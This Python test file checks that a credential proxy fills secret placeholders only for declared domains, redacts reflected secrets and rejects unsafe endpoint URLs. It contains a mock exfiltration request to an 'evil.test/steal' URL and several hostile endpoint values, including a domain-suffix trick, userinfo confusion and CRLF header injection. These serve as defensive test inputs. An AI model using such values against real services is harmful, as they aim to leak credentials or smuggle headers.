"""Custom auth placeholders (filled by the host only where declared, only for the auth
domains) and per-connection endpoints (credentials only for the connection's own host)."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Iterator

import pytest

from corral import ArgumentError, FetchClient, FetchDenied
from corral._fetch.guest import GuestFetch
from corral._metrics import Metrics
from corral.testing import LocalServer, Reply

from ..oauth_server import pack_with_auth
from ..signing_kit import fetch, fetch_client, store

KEY = "custom-api-key-0123456789"
ACCOUNT = "acct-secret-ABCDEFGHIJ"


class Echo(LocalServer):
    """Answers every request with what arrived."""

    def __init__(self) -> None:
        super().__init__(name="echo")
        for method in ("GET", "POST"):
            self.route(method, "/{path}", lambda r: Reply(json={
                "target": r.raw_target, "headers": r.headers, "body": r.body.decode(),
                "host": r.host}))


@pytest.fixture
def echo() -> Iterator[Echo]:
    with Echo() as server:
        yield server


@pytest.fixture
def client() -> Iterator[FetchClient]:
    c = fetch_client()
    yield c
    c.close()


def custom_pack(port: int, **auth: object):  # type: ignore[no-untyped-def]
    return pack_with_auth({"kind": "custom", "params": [
        {"name": "apiKey", "description": "The API key", "places": ["header", "query"]},
        {"name": "account", "description": "Account secret", "places": ["body"]}], **auth},
        domains=(f"example.test:{port}", f"evil.test:{port}"))


def test_custom_placeholders_are_filled_where_declared(echo: Echo, client: FetchClient,
                                                       tmp_path: Path) -> None:
    manifest = custom_pack(echo.port, domains=[f"acme.example.test:{echo.port}"])
    with store(tmp_path / "db") as s:
        info = s.create(principal="alice", pack=manifest, name="C",
                        secret={"values": {"apiKey": KEY, "account": ACCOUNT}})
        creds = s.credentials("alice", info.id, manifest)
        token = creds.guest_facts()["placeholder_token"]
        key_ph, acct_ph = f"{{{{apiKey-{token}}}}}", f"{{{{account-{token}}}}}"
        got = fetch(client, manifest, creds, {
            "method": "POST",
            "url": f"http://acme.example.test:{echo.port}/x?key={key_ph}&acct={acct_ph}",
            "headers": {"X-Api-Key": key_ph, "X-Account": acct_ph},
            "body": json.dumps({"account": acct_ph, "key": key_ph})})
    seen = json.loads(got["body"])
    assert seen["headers"]["x-api-key"] == KEY
    assert f"key={KEY}" in seen["target"]
    assert json.loads(seen["body"])["account"] == ACCOUNT
    # not declared there: left as the guest wrote it
    assert seen["headers"]["x-account"] == acct_ph
    assert ACCOUNT not in seen["target"]
    assert json.loads(seen["body"])["key"] == key_ph


def test_placeholders_for_another_domain_or_without_the_token_stay_unfilled(
        echo: Echo, client: FetchClient, tmp_path: Path) -> None:
    manifest = custom_pack(echo.port, domains=[f"acme.example.test:{echo.port}"])
    with store(tmp_path / "db") as s:
        info = s.create(principal="alice", pack=manifest, name="C",
                        secret={"values": {"apiKey": KEY, "account": ACCOUNT}})
        creds = s.credentials("alice", info.id, manifest)
        token = creds.guest_facts()["placeholder_token"]
        ph = f"{{{{apiKey-{token}}}}}"
        elsewhere = fetch(client, manifest, creds, {
            "url": f"http://evil.test:{echo.port}/steal?k={ph}", "headers": {"X-K": ph}},
            approved=(f"evil.test:{echo.port}",))
        guessed = fetch(client, manifest, creds, {
            "url": f"http://acme.example.test:{echo.port}/x", "headers": {"X-K": "{{apiKey}}"}})
    assert KEY not in elsewhere["body"] and ph in json.loads(elsewhere["body"])["headers"]["x-k"]
    assert json.loads(guessed["body"])["headers"]["x-k"] == "{{apiKey}}"


def test_a_reflected_custom_secret_is_redacted_for_the_guest(echo: Echo, client: FetchClient,
                                                             tmp_path: Path) -> None:
    manifest = custom_pack(echo.port, domains=[f"acme.example.test:{echo.port}"])
    with store(tmp_path / "db") as s:
        info = s.create(principal="alice", pack=manifest, name="C",
                        secret={"values": {"apiKey": KEY, "account": ACCOUNT}})
        creds = s.credentials("alice", info.id, manifest)
        token = creds.guest_facts()["placeholder_token"]
        guest = GuestFetch(client, Metrics(), pack=manifest.name, pack_hash="0" * 64,
                           domains=manifest.network_domains, credentials=creds)
        got = guest.fetch({"url": f"http://acme.example.test:{echo.port}/x",
                           "headers": {"X-K": f"{{{{apiKey-{token}}}}}"}},
                          time.monotonic() + 10)
    assert KEY not in json.dumps(got) and "[redacted by corral]" in got["body"]


def test_custom_secret_shape_is_checked_naming_the_field(tmp_path: Path) -> None:
    manifest = custom_pack(443)
    with store(tmp_path / "db") as s:
        for secret, field in [({"values": {"apiKey": KEY}}, "account"),
                              ({"values": {"apiKey": KEY, "account": ACCOUNT, "x": "y"}},
                               "values.x"),
                              ({"values": {"apiKey": "", "account": ACCOUNT}}, "apiKey"),
                              ({"apiKey": KEY}, "apiKey")]:
            with pytest.raises(ArgumentError) as exc:
                s.create(principal="a", pack=manifest, name="C", secret=secret)
            assert exc.value.details["field"] == field
            assert KEY not in str(exc.value) and ACCOUNT not in str(exc.value)


# -- per-connection endpoints ------------------------------------------------------------------


def endpoint_pack(port: int):  # type: ignore[no-untyped-def]
    return pack_with_auth({"kind": "bearer", "requires_endpoint_url": True,
                           "endpoint_domain": f"example.test:{port}"},
                          domains=(f"example.test:{port}",))


def test_credentials_go_to_the_connection_endpoint_only(echo: Echo, client: FetchClient,
                                                        tmp_path: Path) -> None:
    manifest = endpoint_pack(echo.port)
    with store(tmp_path / "db") as s:
        info = s.create(principal="alice", pack=manifest, name="Acme",
                        secret={"token": "acme-token-123456",
                                "endpoint": f"http://ACME.example.test:{echo.port}/"})
        assert info.endpoint == f"http://acme.example.test:{echo.port}"  # shown: no secret
        creds = s.credentials("alice", info.id, manifest)
        assert creds.guest_facts() == {"endpoint": f"http://acme.example.test:{echo.port}"}
        own = fetch(client, manifest, creds, {"url": f"http://acme.example.test:{echo.port}/a"})
        with pytest.raises(FetchDenied, match="unapproved_domain"):
            fetch(client, manifest, creds, {"url": f"http://other.example.test:{echo.port}/a"})
        other = fetch(client, manifest, creds,
                      {"url": f"http://other.example.test:{echo.port}/a"},
                      approved=(f"example.test:{echo.port}",))
    assert json.loads(own["body"])["headers"]["authorization"] == "Bearer acme-token-123456"
    assert "authorization" not in json.loads(other["body"])["headers"]


@pytest.mark.parametrize("endpoint", [
    "https://evil.test",                          # outside the declared domain
    "https://acme.example.test.evil.test",        # a suffix trick
    "https://127.0.0.1",                          # an IP literal
    "https://[::1]",
    "https://user:pw@acme.example.test",          # userinfo
    "https://acme.example.test@evil.test",
    "https://acme.example.test:9999",             # another port than declared
    "https://acme.example.test/path",             # a path
    "https://acme.example.test?x=1",
    "ftp://acme.example.test",
    "https://acme.example.test\r\nX: y",
    "",
])
def test_bad_endpoints_are_refused_naming_the_field(endpoint: str, tmp_path: Path) -> None:
    manifest = pack_with_auth({"kind": "bearer", "requires_endpoint_url": True},
                              domains=("example.test",))
    with store(tmp_path / "db") as s:
        with pytest.raises(ArgumentError) as exc:
            s.create(principal="a", pack=manifest, name="E",
                     secret={"token": "tok-secret-value", "endpoint": endpoint})
    assert exc.value.details["field"] == "endpoint"
    assert "tok-secret-value" not in str(exc.value)


def test_an_endpoint_domain_outside_the_network_domains_is_a_manifest_error() -> None:
    from corral import ManifestError

    with pytest.raises(ManifestError) as exc:
        pack_with_auth({"kind": "bearer", "requires_endpoint_url": True,
                        "endpoint_domain": "evil.test"}, domains=("example.test",))
    assert exc.value.details["field"] == "auth.endpoint_domain"
